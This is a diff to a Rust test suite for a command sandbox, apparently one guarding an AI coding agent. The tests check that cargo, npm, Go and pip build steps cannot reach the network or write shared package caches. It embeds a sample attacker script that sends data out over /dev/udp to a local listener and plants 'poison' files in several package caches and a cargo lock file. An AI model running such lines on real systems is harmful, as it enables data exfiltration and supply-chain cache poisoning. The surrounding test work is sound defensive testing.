@@ -1,7 +1,9 @@
 //! Rule: the network and writable caches go to a package manager's fetch only in a form that
 //! runs no project code: a code-free fetch run first (the command itself then runs offline),
 //! or a command that runs none itself. A build script or an npm lifecycle script is the
-//! attacker here: whatever the line looks like, it must run with neither (round 5).
+//! attacker here: whatever the line looks like, it must run with neither (round 5). So are a
+//! project's Go tests and its setup.py, whose lines keep the network (pip's, an accepted gap)
+//! but never a cache (round 6).
 
 use serde_json::json;
 
@@ -11,26 +13,43 @@ use crate::sandbox::{ai_in, with_toolchains};
 use crate::sandbox_network::udp_listener;
 use crate::server::{FakeServer, text_reply, tool_reply};
 
+/// Every package manager's shared cache in the home: later builds, outside the sandbox, trust
+/// what they find there.
+pub const CACHES: &[&str] = &[
+    ".cargo/registry",
+    ".npm",
+    "go/pkg/mod",
+    ".cache/go-build",
+    ".cache/pip",
+    ".cache/uv",
+];
+
+/// A lock file of cargo's that records what its clean-up removes.
+const CARGO_LOCK: &str = ".cargo/.global-cache";
+
 /// The attacker's script, run by a build script or a lifecycle script as `sh evil.sh WHO`: it
 /// says it ran (in the project), then tries the network (UDP to `port`) and the caches.
 fn evil(ai: &Ai, port: u16) -> String {
-    let registry = ai.home().join(".cargo/registry");
-    let npm = ai.home().join(".npm");
-    format!(
+    let mut script = format!(
         "echo ran >> \"{work}/ran-$1\"\n\
          bash -c 'echo LEAK > /dev/udp/127.0.0.1/{port}' 2>/dev/null\n\
-         touch \"{registry}/poison-$1\" \"{npm}/poison-$1\" 2>/dev/null\n\
-         mkdir -p \"{npm}/_npx/x\" 2>/dev/null\n",
+         mkdir -p \"{npm}/_npx/x\" 2>/dev/null\n\
+         echo poison >> \"{lock}\" 2>/dev/null\n",
         work = ai.work().display(),
-        registry = registry.display(),
-        npm = npm.display(),
-    )
+        npm = ai.home().join(".npm").display(),
+        lock = ai.home().join(CARGO_LOCK).display(),
+    );
+    for cache in CACHES {
+        let dir = ai.home().join(cache);
+        script += &format!("touch \"{}/poison-$1\" 2>/dev/null\n", dir.display());
+    }
+    script
 }
 
 /// A project whose cargo build script and npm postinstall both run `evil.sh`.
 fn project(port: u16) -> Ai {
     let ai = with_toolchains(ai_in(false));
-    for cache in [".cargo/registry", ".npm"] {
+    for cache in CACHES {
         std::fs::create_dir_all(ai.home().join(cache)).unwrap();
     }
     let script = evil(&ai, port);
@@ -65,6 +84,17 @@ fn attack(command: &str, who: &str) -> Vec<String> {
 /// The same with these files laid over the project (`WORK` in them: the project's path), and
 /// `commands` run as one call each.
 fn attack_with(commands: &[&str], who: &str, files: &[(&str, &str)]) -> Vec<String> {
+    attack_in(commands, who, files, |ai| ai).0
+}
+
+/// The same with `setup` done to the project before the run; also returns the project's
+/// `calls` file (where a stand-in tool says how it was run).
+pub fn attack_in(
+    commands: &[&str],
+    who: &str,
+    files: &[(&str, &str)],
+    setup: impl FnOnce(Ai) -> Ai,
+) -> (Vec<String>, String) {
     let (listener, port) = udp_listener();
     let mut script: Vec<_> = (commands.iter().enumerate())
         .map(|(i, command)| {
@@ -82,7 +112,7 @@ fn attack_with(commands: &[&str], who: &str, files: &[(&str, &str)]) -> Vec<Stri
     for (path, text) in files {
         ai = ai.file(path, &text.replace("WORK", &work));
     }
-    let ai = ai
+    let ai = setup(ai)
         .env("SWEBASH_AI_BASE_URL", &server.url)
         .args(&["--json", "--yes", "go"]);
     let run = ai.run();
@@ -97,16 +127,21 @@ fn attack_with(commands: &[&str], who: &str, files: &[(&str, &str)]) -> Vec<Stri
     if listener.recv(&mut buf).is_ok() {
         got.push("reached the UDP listener".into());
     }
-    for cache in [".cargo/registry", ".npm"] {
+    for cache in CACHES {
         let dir = ai.home().join(cache);
         if dir.join(format!("poison-{who}")).exists() || dir.join("_npx/x").exists() {
             got.push(format!("wrote {cache}"));
         }
     }
+    let lock = std::fs::read_to_string(ai.home().join(CARGO_LOCK)).unwrap_or_default();
+    if lock.contains("poison") {
+        got.push(format!("wrote {CARGO_LOCK}"));
+    }
     if !got.is_empty() {
         got.push(run.stderr);
     }
-    got
+    let calls = std::fs::read_to_string(ai.work().join("calls")).unwrap_or_default();
+    (got, calls)
 }
 
 #[test]
@@ -122,6 +157,17 @@ fn a_line_whose_code_free_fetch_is_dropped_gets_no_network_and_no_cache_to_write
         ("cd . && npm install --no-audit", "npm"),
         ("npm install --no-audit && npm ci", "npm"),
     ] {
+        let got = attack(command, who);
+        assert!(got.is_empty(), "{command}: {got:?}");
+    }
+}
+
+#[test]
+fn a_build_after_its_fetch_runs_offline_and_writes_no_cache_nor_its_lock() {
+    if !require_sandbox() {
+        return;
+    }
+    for (command, who) in [("cargo build", "cargo"), ("npm install --no-audit", "npm")] {
         let got = attack(command, who);
         assert!(got.is_empty(), "{command}: {got:?}");
     }
